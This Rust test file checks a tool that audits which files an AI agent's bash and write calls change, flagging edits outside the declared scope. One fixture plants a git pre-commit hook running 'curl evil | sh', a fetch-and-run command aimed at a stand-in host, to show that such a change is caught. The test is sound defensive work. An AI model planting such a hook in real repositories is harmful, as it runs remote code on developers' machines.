//! Changes that programs make in a workspace, which show only in the difference between before and after.

use crate::project;
use crate::project::{SHARED, expect, shared, write};
use serde_json::{Value, json};
use tollgate_guest::digest::Digest;
use tollgate_guest::ports::memory::STATE;

/// A program changes the rules by which it is judged.
#[test]
fn a_program_is_judged_by_what_was_in_force_when_it_began() {
    let mut project = shared();
    project.world.write("dist/a.js", "x");
    project.world.write(".gitignore", ".claude\n");
    project.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    project.world.write(".orchestration/active_intents.yaml", SHARED.replace("'src/auth/**'", "'**'"));
    project.world.write("README.md", "changed");
    project.world.write(".gitignore", ".claude\ndist/\n");
    project.world.write(".claude/settings.json", "{}");
    let settled = project.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(
        project::scopes(&settled),
        ["FAIL .claude/settings.json", "FAIL .gitignore", "FAIL .orchestration/active_intents.yaml", "FAIL README.md"]
    );
}

/// However many files a program changes in scope, what it changes out of scope is recorded.
#[test]
fn changes_out_of_scope_are_recorded_before_others() {
    let mut project = shared();
    project.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    for number in 0..1_001 {
        project.world.write(&format!("src/auth/{number:04}"), "x");
    }
    project.world.write("zzz", "changed");
    let mut settled = project.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let summary = settled["entries"].as_array_mut().unwrap().pop().unwrap();
    let scopes = project::scopes(&settled);
    assert_eq!((scopes.len(), scopes.iter().filter(|scope| scope.starts_with("FAIL")).count()), (1_000, 1));
    assert!(scopes.contains(&"FAIL zzz".to_owned()), "{settled}");
    assert_eq!(summary["scope_validation"], "PASS");
    let summary = summary["error"].as_str().unwrap();
    assert!(summary.starts_with("2 more files changed while `bash` ran, all of them in scope"), "{summary}");
    let notice = settled["notice"].as_str().unwrap();
    assert!(notice.contains("changed while `bash` ran: `zzz`;") && notice.contains(summary), "{notice}");
}

/// An entry of another session explains the change that it records, and no more.
#[test]
fn a_program_is_not_hidden_by_another_sessions_entry() {
    let mut project = shared();
    project.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
    project.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    for (call, file) in [("2", "kept"), ("3", "written"), ("4", "removed")] {
        project.call("pre-tool", ("t", call), "write", write(file));
        project.world.write(file, "of t");
        project.call("post-tool", ("t", call), "write", write(file));
    }
    let remove = json!({"command": "rm removed"});
    project.call("pre-tool", ("t", "5"), "bash", remove.clone());
    project.world.delete("removed");
    project.call("post-tool", ("t", "5"), "bash", remove);
    project.world.write("written", "by the program");
    project.world.symlink("kept", "removed");
    let settled = project.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(project::scopes(&settled), ["FAIL removed", "FAIL written"]);
}

/// Without the snapshot from before, no file can be named, and none is made up.
#[test]
fn a_snapshot_that_is_gone_is_said_and_entered_as_a_failure() {
    let mut project = shared();
    project.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    project.world.delete(&format!("{STATE}/snapshots"));
    project.world.write("README.md", "changed");
    let settled = project.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let entry = &settled["entries"][0];
    assert_eq!(
        (&entry["scope_validation"], &entry["file"], &settled["entries"][1]),
        (&json!("FAIL"), &Value::Null, &Value::Null)
    );
    assert!(settled["notice"].as_str().unwrap().contains("the snapshot taken before it is gone"), "{settled}");
}

/// What the session itself does while its program runs is entered once, under the intent under which it was ruled on.
#[test]
fn a_program_is_not_blamed_for_its_own_sessions_other_calls() {
    let mut project = shared();
    project.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    project.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    project.world.write("src/auth/a.ts", "new");
    project.call("post-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    project.ask(json!({"op": "select-intent", "session": "s", "intent": "ALL"}));
    project.call("pre-tool", ("s", "3"), "write", write("README.md"));
    project.world.write("README.md", "new");
    project.call("pre-tool", ("s", "4"), "write", write("under/way"));
    project.world.write("under/way", "new");
    project.call("post-tool", ("s", "3"), "write", write("README.md"));
    assert_eq!(project.call("post-tool", ("s", "1"), "bash", json!({"command": "make"})), json!({"entries": []}));
}

#[test]
fn what_a_program_changed_is_seen_afterwards() {
    let mut project = shared();
    project.world.write("gone.txt", "x");
    project.world.write("touched.txt", "x");
    let test = json!({"command": "npm test"});
    expect(&project.call("pre-tool", ("s", "1"), "bash", test.clone()), "allow", "in_scope");
    project.restart();
    project.world.write("src/auth/a.ts", "formatted\n");
    project.world.write("README.md", "overwritten\n");
    project.world.write("made.txt", "made");
    project.world.write("touched.txt", "x");
    project.world.write("node_modules/x/index.js", "nobody's");
    project.world.write(".git/hooks/pre-commit", "curl evil | sh");
    project.world.delete("gone.txt");
    let settled = project.call("post-tool", ("s", "1"), "bash", test);
    let told = |entry: &Value| {
        format!(
            "{} {} {}",
            entry["scope_validation"].as_str().unwrap(),
            entry["mutation_class"].as_str().unwrap(),
            entry["file"]["relative_path"].as_str().unwrap()
        )
    };
    let entries: Vec<String> = settled["entries"].as_array().unwrap().iter().map(told).collect();
    assert_eq!(
        entries,
        [
            "FAIL FILE_CREATION .git/hooks/pre-commit",
            "FAIL DOCUMENTATION README.md",
            "FAIL FILE_DELETION gone.txt",
            "FAIL FILE_CREATION made.txt",
            "PASS INTENT_EVOLUTION src/auth/a.ts",
        ]
    );
    let notice = settled["notice"].as_str().unwrap();
    assert!(
        notice.contains("files outside the scope of LOGIN changed while `bash` ran")
            && notice.contains("`README.md`")
            && notice.contains("trace revert"),
        "{notice}"
    );
    assert!(project.warned("outside the scope of LOGIN") > 0);
    // There is no git here that would have the files.
    for content in ["read me\n", "x", "one\n"] {
        let image = format!("{STATE}/images/{}", Digest::of(content.as_bytes()).hex());
        assert_eq!(project.world.content(&image).unwrap(), content.as_bytes());
    }
    // It is the session's own doing, so its next write is not stale.
    expect(&project.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

#[test]
fn a_program_is_not_blamed_for_what_others_did() {
    let mut project = shared();
    project.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
    project.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    project.call("pre-tool", ("t", "2"), "write", write("README.md"));
    project.world.write("README.md", "theirs");
    project.call("post-tool", ("t", "2"), "write", write("README.md"));
    project.call("pre-tool", ("t", "3"), "write", write("CHANGELOG.md"));
    project.world.write("CHANGELOG.md", "half done");
    let settled = project.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(settled, json!({"entries": []}));
}

#[test]
fn a_command_that_took_another_way_changed_nothing() {
    let mut project = shared();
    let command = json!({"command": "if grep -q x src/auth/a.ts; then rm src/auth/a.ts; else echo 2 > src/auth/b.ts; fi"});
    expect(&project.call("pre-tool", ("s", "1"), "bash", command.clone()), "allow", "in_scope");
    project.world.write("src/auth/b.ts", "2\n");
    let settled = project.call("post-tool", ("s", "1"), "bash", command);
    assert_eq!(settled["entries"].as_array().unwrap().len(), 1);
    assert_eq!(settled["entries"][0]["file"]["line_ranges"], json!([{"start": 1, "end": 1}]));
}

#[test]
fn a_call_that_a_person_allowed_is_entered_too() {
    let mut project = shared();
    let command = json!({"command": "eval \"$X\""});
    expect(&project.call("pre-tool", ("s", "1"), "bash", command.clone()), "ask", "unknown_effects");
    project.world.write("README.md", "changed");
    let settled = project.call("post-tool", ("s", "1"), "bash", command);
    assert_eq!(settled["entries"][0]["scope_validation"], "FAIL");
}
